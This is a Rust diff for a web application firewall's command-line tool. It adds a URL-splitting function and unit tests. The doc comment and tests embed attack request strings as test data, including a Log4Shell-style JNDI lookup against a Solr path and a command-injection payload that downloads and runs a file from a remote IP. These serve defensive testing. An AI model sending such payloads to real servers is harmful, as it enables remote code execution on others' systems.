@@ -257,13 +257,7 @@ fn build(common: &CommonArgs) -> Result<std::sync::Arc<WafEngine>, ExitCode> {
 
 fn request_from_args(a: &TestArgs) -> Result<RawRequest, String> {
     if let Some(url) = &a.url {
-        let (host, target) = match url.split_once("://") {
-            Some((_, rest)) => match rest.find('/') {
-                Some(p) => (rest[..p].to_string(), rest[p..].to_string()),
-                None => (rest.to_string(), "/".to_string()),
-            },
-            None => ("localhost".to_string(), url.clone()),
-        };
+        let (host, target) = split_url(url);
         let mut headers = vec![("Host".to_string(), host.into_bytes())];
         for h in &a.headers {
             let (n, v) = h
@@ -295,6 +289,31 @@ fn request_from_args(a: &TestArgs) -> Result<RawRequest, String> {
         Some(p) => std::fs::read(p).map_err(|e| format!("{}: {e}", p.display()))?,
     };
     RawRequest::parse(&data).map_err(|e| e.to_string())
+}
+
+/// `--url`'s host and request target. Only a URL that starts with a scheme is in
+/// absolute form: a `://` later on belongs to the path or query
+/// (`/cores?action=${jndi:ldap://x/a}`, `?cmd=wget+http://x/m`), and splitting there
+/// would test a request nobody sent.
+fn split_url(url: &str) -> (String, String) {
+    let scheme_end = url.find("://").filter(|&p| {
+        let scheme = &url.as_bytes()[..p];
+        scheme.first().is_some_and(u8::is_ascii_alphabetic)
+            && scheme
+                .iter()
+                .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'+' | b'-' | b'.'))
+    });
+    let Some(p) = scheme_end else {
+        return ("localhost".to_string(), url.to_string());
+    };
+    let rest = &url[p + 3..];
+    match rest.find(['/', '?']) {
+        Some(q) if rest.as_bytes()[q] == b'?' => {
+            (rest[..q].to_string(), format!("/{}", &rest[q..]))
+        }
+        Some(q) => (rest[..q].to_string(), rest[q..].to_string()),
+        None => (rest.to_string(), "/".to_string()),
+    }
 }
 
 fn test(a: TestArgs) -> ExitCode {
@@ -460,4 +479,40 @@ fn run_eval(a: EvalArgs) -> ExitCode {
         outln!("{}", serde_json::Value::Object(out));
     }
     ExitCode::SUCCESS
+}
+
+#[cfg(test)]
+mod tests {
+    use super::split_url as split;
+
+    #[test]
+    fn urls_split_at_their_own_scheme_only() {
+        let own = |h: &str, t: &str| (h.to_string(), t.to_string());
+        assert_eq!(
+            split("http://shop.example/a?b=1"),
+            own("shop.example", "/a?b=1")
+        );
+        assert_eq!(split("https://shop.example"), own("shop.example", "/"));
+        assert_eq!(
+            split("http://shop.example?q=1"),
+            own("shop.example", "/?q=1")
+        );
+        assert_eq!(split("/search?q=1"), own("localhost", "/search?q=1"));
+        // a `://` inside the query or path is the request's, not an absolute URL
+        assert_eq!(
+            split("/solr/admin/cores?action=${jndi:ldap://x.example/a}"),
+            own(
+                "localhost",
+                "/solr/admin/cores?action=${jndi:ldap://x.example/a}"
+            )
+        );
+        assert_eq!(
+            split("/setup.cgi?cmd=wget+http://1.2.3.4/m;sh+m"),
+            own("localhost", "/setup.cgi?cmd=wget+http://1.2.3.4/m;sh+m")
+        );
+        assert_eq!(
+            split("http://h.example/r?u=http://x/y"),
+            own("h.example", "/r?u=http://x/y")
+        );
+    }
 }
